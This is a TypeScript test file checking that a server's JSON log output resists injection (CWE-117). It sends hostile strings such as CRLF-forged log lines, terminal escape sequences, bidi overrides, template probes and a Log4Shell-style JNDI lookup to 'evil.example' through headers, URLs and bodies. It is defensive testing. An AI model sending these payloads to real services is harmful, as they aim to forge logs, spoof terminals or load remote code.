// The log stays one JSON object per line, whatever clients send. Its lines contain no characters that a terminal
// interprets (CWE-117).

import { afterAll, beforeAll, expect, test } from 'vitest';
import { addOidcApplications, portal } from '../support/oidc/applications.ts';
import { attemptOf } from '../support/oidc/raw.ts';
import { makeWorld, ours, type World } from '../support/world.ts';

let world: World;
beforeAll(async () => {
  world = await makeWorld('sqlite');
  await addOidcApplications(world.db);
});
afterAll(() => world.close());

const forged = '{"level":"error","msg":"forged"}';
const evils = [
  `x\r\n${forged}\r\n`,
  `x\n${forged}`,
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
  '\u009b31m\u0085\u2028\u2029',
  '\u202eevil\u2066',
  '"}\n{"msg":"forged',
  '%0d%0a%1b[2J',
  '$\u007bjndi:ldap://evil.example/a} %s %d %o {{7*7}}',
  '\0\u0008\u007f',
  '\ud800 half a pair',
];

/** Control characters, line separators, and characters that change the text direction. */
const unprintable = /[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u;

test.each(evils)('hostile input does not break or forge log lines: %j', async (evil) => {
  world.lines.length = 0;
  const text = encodeURIComponent(evil.toWellFormed());
  const printable = evil.replaceAll(/[^\x20-\x7e]/g, '');
  const headers = {
    'user-agent': printable,
    referer: printable,
    'x-request-id': printable,
    'x-forwarded-for': printable,
    authorization: `Basic ${Buffer.from(`${evil}:${evil}`).toString('base64')}`,
    cookie: `brama_session=${text}; i18next=${text}`,
  };
  for (const url of [
    `/${text}`,
    `/uk/${text}`,
    `/api/${text}`,
    `/api/ticket?ticketId=${text}&appId=${text}&appSecret=${text}`,
    `/api/app-redirect?appId=${text}&state=${text}`,
    attemptOf(portal, { redirect_uri: evil, scope: evil, prompt: evil }).address,
    `/oidc/auth?client_id=${text}&redirect_uri=${text}`,
    `/oidc/auth/${text}`,
  ])
    await world.send({ url, headers });
  await world.post('/api/auth', { username: evil, password: evil }, headers);
  await world.post('/api/auth/internal', { sessionId: evil }, headers);
  const page = `/${evil.replaceAll(/[?#]/g, '')}`;
  const report = { reference: 'BCD23456', page, message: evil };
  expect((await world.post('/api/page-errors', report)).statusCode).toBe(200);
  await world.post('/api/page-errors', { reference: evil, page: evil, message: evil });
  await world.send({
    method: 'POST',
    url: '/oidc/token',
    headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
    payload: `grant_type=${text}&code=${text}`,
  });
  await world.send({
    method: 'POST',
    url: '/uk/',
    headers: { ...ours, 'content-type': 'a/b' },
    payload: evil,
  });
  expect(world.lines.length).toBeGreaterThan(10);
  for (const line of world.lines) {
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toMatch(unprintable);
    expect(JSON.parse(line)).toMatchObject({ level: expect.any(String), pid: process.pid });
    expect(JSON.parse(line).msg).not.toBe('forged');
  }
});
